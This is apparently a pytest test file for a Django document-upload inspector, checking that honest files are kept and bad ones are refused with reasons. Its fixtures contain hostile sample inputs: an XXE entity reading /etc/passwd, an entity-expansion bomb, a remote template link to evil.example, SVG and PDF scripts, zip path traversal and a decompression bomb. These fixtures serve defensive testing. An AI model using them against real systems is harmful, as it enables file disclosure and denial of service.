"""Files somebody sends: honest ones are kept, and each kind of bad one is refused with its sentence."""

import io
import zipfile

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from academy.documents.inspection import Refused, inspect
from academy.documents.models import StoredFile
from academy.documents.states import FileKind
from academy.documents.storing import store
from tests.factories.accounts import a_user
from tests.files import a_docx, a_pdf, an_odt

W = "application/vnd.openxmlformats-officedocument"


def upload(data: bytes, name: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data)


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with(change) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def with_script(writer: PdfWriter) -> None:
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("x")}
    )
    writer.root_object[NameObject("/OpenAction")] = action


def zipped(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "name", "kind", "pages"),
    [
        (a_pdf(3), "plan.pdf", "pdf", 3),
        (a_pdf(1), "PLAN FINAL.PDF", "pdf", 1),
        (a_docx(), "plan.docx", "docx", None),
        (an_odt(), "plan.odt", "odt", None),
    ],
)
def test_honest_files_are_recognised(data, name, kind, pages):
    found = inspect(upload(data, name))
    assert (found.kind, found.pages) == (kind, pages)


DTD = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>'
REMOTE = (
    b'<Relationships xmlns="x"><Relationship Id="1" Type="http://x/attachedTemplate" '
    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("data", "name", "code"),
    [
        (b"", "plan.pdf", "empty"),
        (b"MZ\x90\x00", "setup.exe", "type"),
        (a_pdf(1), "plan", "type"),
        (b"<svg onload=alert(1)>", "plan.svg", "type"),
        (b"just text, no plan", "plan.pdf", "disguised"),
        (a_pdf(1), "plan.docx", "disguised"),
        (a_docx(), "plan.pdf", "disguised"),
        (an_odt(), "plan.docx", "disguised"),
        (zipped(**{"readme.txt": b"x"}), "plan.docx", "disguised"),
        (encrypted_pdf(), "plan.pdf", "encrypted"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 600, "plan.docx", "encrypted"),
        (a_pdf(2)[:400], "plan.pdf", "broken"),
        (b"%PDF-1.7\nnothing more", "plan.pdf", "broken"),
        (a_docx()[:300], "plan.docx", "broken"),
        (a_docx(body=b"<w:document"), "plan.docx", "broken"),
        (a_docx(body=DTD), "plan.docx", "active"),
        (a_docx(body=LAUGHS), "plan.docx", "active"),
        (a_docx(extra={"word/vbaProject.bin": b"x"}), "plan.docx", "active"),
        (a_docx(extra={"word/embeddings/oleObject1.bin": b"x"}), "plan.docx", "active"),
        (a_docx(extra={"word/_rels/settings.xml.rels": REMOTE}), "plan.docx", "active"),
        (a_docx(extra={"../../evil": b"x"}), "plan.docx", "broken"),
        (a_docx(extra={"word/big.xml": b"0" * (60 * 1024 * 1024)}), "plan.docx", "bomb"),
        (pdf_with(with_script), "plan.pdf", "active"),
        (pdf_with(lambda w: w.add_attachment("x.exe", b"MZ")), "plan.pdf", "active"),
        (a_pdf(1) + zipped(a=b"x"), "plan.pdf", "disguised"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_bad_files_are_refused_with_their_reason(data, name, code):
    with pytest.raises(Refused) as refusal:
        inspect(upload(data, name))
    assert refusal.value.code == code
    assert len(str(refusal.value)) > 20


def test_a_file_over_the_limit_is_told_both_sizes(settings):
    settings.UPLOAD_LIMIT_MB = 0.001
    with pytest.raises(Refused) as refusal:
        inspect(upload(b"%PDF-" + b"x" * 5000, "plan.pdf"))
    assert "4.9" in str(refusal.value)
    assert "1.0" in str(refusal.value)


@pytest.mark.django_db
def test_what_is_kept_is_named_by_us_and_cannot_be_overwritten():
    stored = store(upload(a_pdf(2), "../../Plan de\u202e acción.pdf"), language="es", by=a_user())
    assert stored.original_name == "Plan de acción.pdf"
    assert "Plan" not in stored.key
    assert stored.pages == 2
    again = store(upload(a_pdf(2), "plan.pdf"), language="es", by=a_user())
    assert again.key != stored.key
    assert again.sha256 == stored.sha256


@pytest.mark.django_db
def test_a_refused_file_leaves_nothing_behind():
    with pytest.raises(Refused):
        store(upload(b"no", "plan.pdf"), language="es", by=a_user())
    assert not StoredFile.objects.exists()


@pytest.mark.django_db
def test_a_row_that_cannot_be_written_takes_its_file_with_it(monkeypatch):
    kept = []
    save = type(default_storage._wrapped if hasattr(default_storage, "_wrapped") else default_storage).save
    monkeypatch.setattr("academy.documents.storing.record", lambda *a, **k: 1 / 0)
    monkeypatch.setattr(
        "academy.documents.storing.default_storage.save",
        lambda name, f: kept.append(name) or save(default_storage, name, f),
    )
    with pytest.raises(ZeroDivisionError):
        store(upload(a_pdf(1), "plan.pdf"), language="es", by=a_user())
    assert kept
    assert not default_storage.exists(kept[0])
    assert not StoredFile.objects.exists()


@pytest.mark.django_db
def test_a_scanner_that_does_not_answer_lets_nothing_through(settings):
    settings.CLAMD = "127.0.0.1:1"
    with pytest.raises(Refused) as refusal:
        store(upload(a_pdf(1), "plan.pdf"), language="es", by=a_user())
    assert refusal.value.code == "scanner"


def a_picture(kind: str, mode: str = "RGB", size=(40, 30), **options) -> bytes:
    out = io.BytesIO()
    Image.new(mode, size).save(out, kind, **options)
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "name", "mode"),
    [
        (a_picture("JPEG"), "a.jpg", "RGB"),
        (a_picture("JPEG", "L"), "a.jpeg", "L"),
        (a_picture("PNG", "RGBA"), "a.png", "RGBA"),
        (a_picture("PNG", "P"), "a.png", "RGBA"),
    ],
)
def test_pictures_are_drawn_anew(data, name, mode):
    found = inspect(upload(data + b"<script>hangs behind</script>", name), list(FileKind))
    assert b"<script>" not in found.clean
    picture = Image.open(io.BytesIO(found.clean))
    assert (picture.size, picture.mode, found.pages) == ((40, 30), mode, None)


def test_a_picture_taken_sideways_stands_upright():
    sideways = Image.Exif()
    sideways[0x0112] = 6
    found = inspect(upload(a_picture("JPEG", exif=sideways), "a.jpg"), list(FileKind))
    assert Image.open(io.BytesIO(found.clean)).size == (30, 40)


@pytest.mark.parametrize(
    ("data", "name", "code"),
    [
        (a_picture("PNG"), "a.jpg", "disguised"),
        (a_picture("GIF"), "a.png", "disguised"),
        (a_pdf(1), "a.jpg", "disguised"),
        (a_picture("PNG", size=(200, 200))[:80], "a.png", "broken"),
        (a_picture("PNG", "1", size=(9000, 9000)), "a.png", "bomb"),
        (b"<svg>", "a.svg", "type"),
    ],
)
def test_what_only_looks_like_a_picture_is_refused(data, name, code):
    with pytest.raises(Refused) as refusal:
        inspect(upload(data, name), list(FileKind))
    assert refusal.value.code == code


def test_where_nobody_asks_for_pictures_none_is_taken():
    with pytest.raises(Refused) as refusal:
        inspect(upload(a_picture("PNG"), "a.png"))
    assert refusal.value.code == "type"
